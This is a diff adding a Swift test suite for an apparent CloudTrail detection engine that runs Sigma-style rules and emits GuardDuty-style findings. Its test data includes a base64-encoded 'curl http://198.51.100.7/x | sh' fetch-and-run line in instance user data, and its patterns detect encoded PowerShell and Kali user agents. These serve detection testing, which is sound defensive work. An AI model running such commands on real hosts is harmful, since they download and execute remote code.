@@ -1,0 +1,199 @@
+import Foundation
+import Testing
+import VigilDetection
+import VigilModel
+import VigilTesting
+@testable import VigilRules
+
+/// Rules written here run through the real reader and engine over CloudTrail events given as
+/// JSON; each test has events that must match and events that must not.
+@Suite struct SigmaRuleTests {
+    static func rules(_ yaml: String, file: String = "test.yml") -> RuleSet {
+        RuleSet(texts: [(file, yaml)])
+    }
+
+    static func event(_ name: String, source: String = "iam.amazonaws.com", id: String = UUID().uuidString,
+                      time: String = "2024-05-01T10:00:00Z", arn: String = "arn:aws:iam::111122223333:user/alice",
+                      ip: String = "198.51.100.7", agent: String = "aws-cli/2.15.0", parameters: [String: Any]? = nil,
+                      extra: [String: Any] = [:]) -> [String: Any] {
+        var event: [String: Any] = [
+            "eventVersion": "1.09", "eventTime": time, "eventSource": source, "eventName": name, "awsRegion": "us-east-1",
+            "sourceIPAddress": ip, "userAgent": agent, "eventID": id, "eventType": "AwsApiCall", "recipientAccountId": "111122223333",
+            "userIdentity": ["type": "IAMUser", "principalId": "AIDAEXAMPLE", "arn": arn, "accountId": "111122223333",
+                             "accessKeyId": "AKIAEXAMPLE", "userName": "alice"],
+        ]
+        if let parameters { event["requestParameters"] = parameters }
+        for (k, v) in extra { event[k] = v }
+        return event
+    }
+
+    /// The titles of the findings `set` raises over `events`.
+    static func fired(_ set: RuleSet, _ events: [[String: Any]]) throws -> [String] {
+        #expect(set.errors.isEmpty, "\(set.errors)")
+        return try DetectionHarness.findings(cloudTrail: events, detectors: set.makeDetectors()).compactMap(\.title).sorted()
+    }
+
+    static func rule(_ detection: String, level: String = "high") -> String {
+        """
+        title: Test Rule
+        id: 0f5c2b6e-0000-4000-8000-000000000001
+        logsource:
+            product: aws
+            service: cloudtrail
+        detection:
+        \(detection.split(separator: "\n").map { "    " + $0 }.joined(separator: "\n"))
+        level: \(level)
+        tags:
+            - attack.persistence
+            - attack.t1098
+        """
+    }
+
+    @Test func plainValuesMatchWholeValuesWithoutCaseAndWithWildcards() throws {
+        let set = Self.rules(Self.rule("""
+            selection:
+                eventName: createaccesskey
+                userAgent: 'aws-cli/*'
+            condition: selection
+            """))
+        #expect(try Self.fired(set, [Self.event("CreateAccessKey")]) == ["Test Rule"])
+        #expect(try Self.fired(set, [Self.event("CreateAccessKeys")]).isEmpty)
+        #expect(try Self.fired(set, [Self.event("CreateAccessKey", agent: "boto3/1.0 aws-cli/2")]).isEmpty)
+    }
+
+    @Test func containsStartsWithEndsWithAndAll() throws {
+        let set = Self.rules(Self.rule("""
+            selection:
+                eventName|startswith: 'Put'
+                eventName|endswith: 'Policy'
+                userAgent|contains|all:
+                    - 'python'
+                    - 'boto'
+            condition: selection
+            """))
+        #expect(try Self.fired(set, [Self.event("PutUserPolicy", agent: "Boto3/1.28 Python/3.11")]) == ["Test Rule"])
+        #expect(try Self.fired(set, [Self.event("PutUserPolicy", agent: "Python/3.11 requests")]).isEmpty)
+        #expect(try Self.fired(set, [Self.event("PutUserPolicyX", agent: "boto python")]).isEmpty)
+    }
+
+    @Test func casedRegexCidrAndExists() throws {
+        let set = Self.rules(Self.rule("""
+            selection_cased:
+                userAgent|cased|contains: 'Kali'
+            selection_re:
+                userIdentity.arn|re: ':assumed-role/aws:.+'
+            selection_net:
+                sourceIPAddress|cidr: '203.0.113.0/24'
+            selection_exists:
+                errorCode|exists: false
+            condition: 1 of selection_c* or (selection_re and selection_net and selection_exists)
+            """))
+        #expect(try Self.fired(set, [Self.event("ListBuckets", agent: "aws-cli Linux/Kali")]) == ["Test Rule"])
+        #expect(try Self.fired(set, [Self.event("ListBuckets", agent: "aws-cli linux/kali")]).isEmpty)
+        let role = "arn:aws:sts::111122223333:assumed-role/aws:ec2-instance/i-0abc"
+        #expect(try Self.fired(set, [Self.event("ListBuckets", arn: role, ip: "203.0.113.9")]) == ["Test Rule"])
+        #expect(try Self.fired(set, [Self.event("ListBuckets", arn: role, ip: "203.0.114.9")]).isEmpty)
+        #expect(try Self.fired(set, [Self.event("ListBuckets", arn: role, ip: "203.0.113.9", extra: ["errorCode": "AccessDenied"])]).isEmpty)
+    }
+
+    @Test func nestedFieldsSearchArraysAndCompareNumbers() throws {
+        let set = Self.rules(Self.rule("""
+            selection:
+                eventName: RunInstances
+                requestParameters.instancesSet.items.imageId: 'ami-0bad*'
+                requestParameters.instancesSet.items.maxCount|gte: 10
+            condition: selection
+            """))
+        func run(_ image: String, _ count: Int) -> [String: Any] {
+            Self.event("RunInstances", source: "ec2.amazonaws.com",
+                       parameters: ["instancesSet": ["items": [["imageId": "ami-0good", "maxCount": 1], ["imageId": image, "maxCount": count]]]])
+        }
+        #expect(try Self.fired(set, [run("ami-0bad123", 20)]) == ["Test Rule"])
+        #expect(try Self.fired(set, [run("ami-0bad123", 2)]).isEmpty)
+        #expect(try Self.fired(set, [run("ami-0fine", 20)]).isEmpty)
+    }
+
+    @Test func nullFieldrefAndFilters() throws {
+        let set = Self.rules(Self.rule("""
+            selection:
+                eventName: UpdateLoginProfile
+                errorCode: null
+            filter_main_self:
+                userIdentity.userName|fieldref: requestParameters.userName
+            condition: selection and not 1 of filter_main_*
+            """))
+        #expect(try Self.fired(set, [Self.event("UpdateLoginProfile", parameters: ["userName": "bob"])]) == ["Test Rule"])
+        #expect(try Self.fired(set, [Self.event("UpdateLoginProfile", parameters: ["userName": "alice"])]).isEmpty)
+        #expect(try Self.fired(set, [Self.event("UpdateLoginProfile", parameters: ["userName": "bob"], extra: ["errorCode": "NoSuchEntity"])]).isEmpty)
+    }
+
+    @Test func base64OffsetAndWindashFindEncodedAndVariantText() throws {
+        let set = Self.rules(Self.rule("""
+            selection_b64:
+                requestParameters.userData|base64offset|contains: 'curl http'
+            selection_dash:
+                requestParameters.command|windash|contains: ' -enc '
+            condition: 1 of selection_*
+            """))
+        for prefix in ["", "a", "ab", "abc"] {
+            let encoded = Data("#!/bin/sh\n\(prefix)curl http://198.51.100.7/x | sh".utf8).base64EncodedString()
+            #expect(try Self.fired(set, [Self.event("ModifyInstanceAttribute", source: "ec2.amazonaws.com", parameters: ["userData": encoded])]) == ["Test Rule"],
+                    "offset \(prefix.count)")
+        }
+        let benign = Data("#!/bin/sh\nyum update -y".utf8).base64EncodedString()
+        #expect(try Self.fired(set, [Self.event("ModifyInstanceAttribute", source: "ec2.amazonaws.com", parameters: ["userData": benign])]).isEmpty)
+        #expect(try Self.fired(set, [Self.event("SendCommand", source: "ssm.amazonaws.com", parameters: ["command": "powershell /enc AAAA"])]) == ["Test Rule"])
+        #expect(try Self.fired(set, [Self.event("SendCommand", source: "ssm.amazonaws.com", parameters: ["command": "powershell -encoding utf8"])]).isEmpty)
+    }
+
+    @Test func rulesAreRoutedByTheEventNamesTheyPin() throws {
+        let set = Self.rules(Self.rule("""
+            selection_a:
+                eventName:
+                    - CreateUser
+                    - CreateLoginProfile
+            selection_b:
+                eventName: CreateAccessKey
+                eventSource: iam.amazonaws.com
+            filter:
+                userAgent|contains: terraform
+            condition: (selection_a or selection_b) and not filter
+            """))
+        #expect(set.rules[0].eventNames == ["CreateUser", "CreateLoginProfile", "CreateAccessKey"])
+        let unrouted = Self.rules(Self.rule("""
+            selection:
+                eventSource: iam.amazonaws.com
+            condition: selection
+            """))
+        #expect(unrouted.rules[0].eventNames == nil)
+    }
+
+    @Test func findingsCarryTheRuleAndAGuardDutyShapedType() throws {
+        let set = Self.rules(Self.rule("""
+            selection:
+                eventName: CreateAccessKey
+            condition: selection
+            """, level: "critical"))
+        let findings = try DetectionHarness.findings(cloudTrail: [Self.event("CreateAccessKey"), Self.event("CreateAccessKey")], detectors: set.makeDetectors())
+        let finding = try #require(findings.first)
+        #expect(findings.count == 1)
+        #expect(finding.type == "Persistence:IAMUser/Sigma.TestRule")
+        #expect(finding.severity == 9.0)
+        #expect(finding.service?.count == 2)
+        #expect(finding.resource.resourceType == "AccessKey")
+        let info = finding.service?.additionalInfo?.value ?? ""
+        #expect(info.contains("0f5c2b6e-0000-4000-8000-000000000001"))
+        #expect(info.contains("attack.t1098"))
+    }
+
+    @Test func findingTypesAreStableAndFitGuardDutysLimit() {
+        #expect(RuleFindingType.make(title: "AWS User Login Profile Was Modified", tactics: ["persistence"], id: nil).name
+                == "Persistence:IAMUser/Sigma.AWSUserLoginProfileWasModified")
+        #expect(RuleFindingType.make(title: "Ingress/Egress Security-Group modification", tactics: ["t1098", "collection"], id: nil).name
+                == "Exfiltration:IAMUser/Sigma.IngressEgressSecurityGroupModification")
+        let long = RuleFindingType.make(title: String(repeating: "very long title ", count: 20), tactics: [], id: "abcdef12-3456")
+        #expect(long.name.count == 100)
+        #expect(long.name.hasSuffix(".abcdef12"))
+        #expect(long.name.hasPrefix("UnauthorizedAccess:IAMUser/Sigma.VeryLongTitle"))
+    }
+}
